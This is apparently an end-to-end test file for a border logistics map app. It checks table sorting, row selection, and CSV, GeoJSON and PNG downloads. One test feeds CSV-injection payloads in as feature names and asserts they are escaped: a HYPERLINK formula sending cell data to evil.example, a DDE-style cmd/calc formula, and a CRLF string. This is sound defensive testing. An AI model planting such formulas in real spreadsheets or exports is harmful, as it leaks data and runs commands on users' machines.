// The table view and the downloads (production build): the table sorts by every column and follows the selection;
// CSV, GeoJSON and PNG downloads are read back and checked; hostile names are escaped in the CSV.
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { featureCard, geoFeature, launch, listEntry, listEntryNames, openApp, waitForUrl } from './driver';
import type { AppSession } from './driver';
import { distinctColours, download, mapPixelRatio, pngSize, tableCells } from './driver';
import { parseCsv } from '../fixtures/parse-csv';
import { CSV_COLUMNS } from '../../src/domain/export-csv';
import { checkDataset } from '../../src/data/check-dataset';
import { readBorders } from '../../scripts/geo-files';

const baseUrl = inject('baseUrl');
const KHASAN = geoFeature('khasan-tumangang-road-bridge');
const FRIENDSHIP = geoFeature('korea-russia-friendship-bridge');

describe('the table view (production build)', () => {
  let s: AppSession;
  beforeAll(async () => {
    s = await launch(baseUrl);
    await openApp(s, baseUrl, '/?year=2030&v=1');
  });
  afterAll(async () => s?.close());

  it('opens from the control named "Table": a table of the features that pass the filters', async () => {
    await s.page.getByRole('button', { name: 'Table', exact: true }).click();
    const table = s.page.getByRole('table');
    await table.waitFor();
    const rows = await tableCells(s.page);
    expect(rows.length).toBe((await listEntryNames(s.page)).length);
    expect(rows.length).toBeGreaterThan(10);
    const headers = await s.page.getByRole('columnheader').allInnerTexts();
    expect(headers.map((h) => h.replace(/[▲▼]/g, '').trim())).toEqual([
      'Name',
      'Kind',
      'Border section',
      'Status',
      'Opened or target',
      'Capacity',
      'Precision',
      'Newest source',
    ]);
  });

  it('sorts on a click of a column header and reports it in aria-sort', async () => {
    const name = s.page.getByRole('columnheader', { name: 'Name' });
    await expect(name.getAttribute('aria-sort')).resolves.toBe('ascending');
    const names = (await tableCells(s.page)).map((r) => r[0] ?? '');
    const collator = new Intl.Collator('en', { numeric: true, sensitivity: 'base' });
    expect(names).toEqual([...names].sort(collator.compare));
    await name.click();
    await expect(name.getAttribute('aria-sort')).resolves.toBe('descending');
    expect((await tableCells(s.page)).map((r) => r[0])).toEqual([...names].reverse());

    const date = s.page.getByRole('columnheader', { name: 'Opened or target' });
    await date.click();
    await expect(date.getAttribute('aria-sort')).resolves.toBe('ascending');
    await expect(name.getAttribute('aria-sort')).resolves.toBe('none');
    const years = (await tableCells(s.page))
      .map((r) => /(\d{4})/.exec(r[4] ?? '')?.[1])
      .filter((y): y is string => y !== undefined)
      .map(Number);
    expect(years).toEqual([...years].sort((a, b) => a - b));
  });

  it('sorts by every column without losing a row', async () => {
    const count = (await tableCells(s.page)).length;
    for (const header of ['Kind', 'Border section', 'Status', 'Capacity', 'Precision', 'Newest source']) {
      const h = s.page.getByRole('columnheader', { name: header });
      await h.click();
      await expect(h.getAttribute('aria-sort')).resolves.toBe('ascending');
      expect((await tableCells(s.page)).length).toBe(count);
    }
  });

  it('selecting a row selects the feature: its card opens and the URL names it', async () => {
    await s.page.getByRole('table').getByRole('button', { name: KHASAN.name.en, exact: true }).click();
    await featureCard(s.page, KHASAN.name.en).waitFor();
    await waitForUrl(s.page, (u) => u.searchParams.get('feature') === KHASAN.id);
    await expect(s.page.locator(`tr[data-id="${KHASAN.id}"]`).getAttribute('aria-current')).resolves.toBe(
      'true',
    );
  });

  it('and the reverse: a feature chosen elsewhere is marked in the table', async () => {
    await listEntry(s.page, FRIENDSHIP.name.en).click();
    await featureCard(s.page, FRIENDSHIP.name.en).waitFor();
    await expect
      .poll(() => s.page.locator(`tr[data-id="${FRIENDSHIP.id}"]`).getAttribute('aria-current'))
      .toBe('true');
    await expect(s.page.locator('tr[aria-current="true"]').count()).resolves.toBe(1);
  });

  it('logs no CSP violations', () => expect(s.cspViolations).toEqual([]));
});

describe('downloads of the current view (production build)', () => {
  let s: AppSession;
  beforeAll(async () => {
    s = await launch(baseUrl);
    await openApp(s, baseUrl, '/?year=2026&border=kp&v=1');
  });
  afterAll(async () => s?.close());

  it('"Download CSV": UTF-8 with a BOM, RFC 4180, one row per listed feature, every column', async () => {
    const { name, bytes } = await download(s.page, 'Download CSV');
    expect(name).toMatch(/^border-logistics-map-\d{4}-\d{2}-\d{2}\.csv$/);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.toString('utf8').slice(1));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const listed = await listEntryNames(s.page);
    expect(rows.length - 1).toBe(listed.length);
    const header = rows[0] ?? [];
    const khasan = rows.find((r) => r[0] === KHASAN.id) ?? [];
    expect(khasan[header.indexOf('name_en')]).toBe(KHASAN.name.en);
    expect(khasan[header.indexOf('name_ru')]).toBe(KHASAN.name.ru ?? '');
    expect(khasan[header.indexOf('status')]).toBe(KHASAN.status);
    expect(khasan[header.indexOf('source_urls')]).toMatch(/^https?:\/\//);
    for (const r of rows.slice(1)) expect(r[header.indexOf('border')]).toBe('kp');
  });

  it('"Download GeoJSON": a FeatureCollection of the listed features that re-imports into check:geo', async () => {
    const { name, bytes } = await download(s.page, 'Download GeoJSON');
    expect(name).toMatch(/\.geojson$/);
    const json = JSON.parse(bytes.toString('utf8')) as { type: string; features: { id: string }[] };
    expect(json.type).toBe('FeatureCollection');
    expect(json.features.length).toBe((await listEntryNames(s.page)).length);
    const { errors, features } = checkDataset(
      [{ name: 'export.geojson', json }],
      readBorders(),
      new Date().toISOString().slice(0, 10),
    );
    expect(errors).toEqual([]);
    expect(features.length).toBe(json.features.length);
  });

  it('"Download PNG" at 1× and 2×: the map with title, legend and footer, at the map size times the scale', async () => {
    const box = await s.page
      .getByRole('region', { name: 'Map', exact: true })
      .locator('canvas')
      .boundingBox();
    if (!box) throw new Error('no map canvas');
    const one = await download(s.page, 'Download PNG');
    expect(one.name).toMatch(/^border-logistics-map-\d{4}-\d{2}-\d{2}\.png$/);
    const size1 = pngSize(one.bytes);
    expect(size1.width).toBe(Math.round(box.width));
    expect(size1.height).toBeGreaterThan(Math.round(box.height) + 60);
    // The map band has a real picture (many colours); the title band has text on white.
    expect(await distinctColours(s.page, one.bytes, { fromY: 0.2, toY: 0.8 })).toBeGreaterThan(50);
    expect(await distinctColours(s.page, one.bytes, { fromY: 0, toY: 0.05 })).toBeGreaterThan(2);

    await s.page.getByRole('combobox', { name: 'Size' }).selectOption('2');
    const two = await download(s.page, 'Download PNG');
    expect(two.name).toContain('-2x-');
    const size2 = pngSize(two.bytes);
    expect(size2.width).toBe(size1.width * 2);
    expect(size2.height).toBe(size1.height * 2);
    expect(await distinctColours(s.page, two.bytes, { fromY: 0.2, toY: 0.8 })).toBeGreaterThan(50);
    // The map is back at its own pixel ratio.
    await expect(mapPixelRatio(s.page)).resolves.toBe(1);
  });

  it('logs no CSP violations and sends nothing off the origin', () => {
    expect(s.cspViolations).toEqual([]);
    expect(s.foreignRequests).toEqual([]);
  });
});

describe('CSV export of hostile names (production build)', () => {
  const ASSET = /\/assets\/dprk-border-[^/]*\.geojson$/;
  const HOSTILE = {
    en: '=HYPERLINK("http://evil.example/?x="&A1,"click"), a "quoted" name',
    ru: "@SUM(1+1)*cmd|' /C calc'!A0",
    ko: '+1\r\nsecond line',
  };
  let s: AppSession;
  beforeAll(async () => {
    s = await launch(baseUrl);
    await s.page.route(ASSET, async (route) => {
      const response = await route.fetch();
      const json = (await response.json()) as { features: { id: string; properties: { name: object } }[] };
      const target = json.features.find((f) => f.id === KHASAN.id);
      if (!target) throw new Error('no Khasan road bridge in the DPRK file');
      target.properties.name = HOSTILE;
      await route.fulfill({ response, json });
    });
    await openApp(s, baseUrl, '/?border=kp&v=1');
  });
  afterAll(async () => s?.close());

  it('reads back every hostile name exactly, with the formula triggers neutralised by a leading apostrophe', async () => {
    const { bytes } = await download(s.page, 'Download CSV');
    const rows = parseCsv(bytes.toString('utf8').slice(1));
    const header = rows[0] ?? [];
    for (const r of rows) expect(r).toHaveLength(CSV_COLUMNS.length);
    const row = rows.find((r) => r[0] === KHASAN.id) ?? [];
    expect(row[header.indexOf('name_en')]).toBe(`'${HOSTILE.en}`);
    expect(row[header.indexOf('name_ru')]).toBe(`'${HOSTILE.ru}`);
    expect(row[header.indexOf('name_ko')]).toBe(`'${HOSTILE.ko}`);
    // No cell of the file starts with a trigger once read back.
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
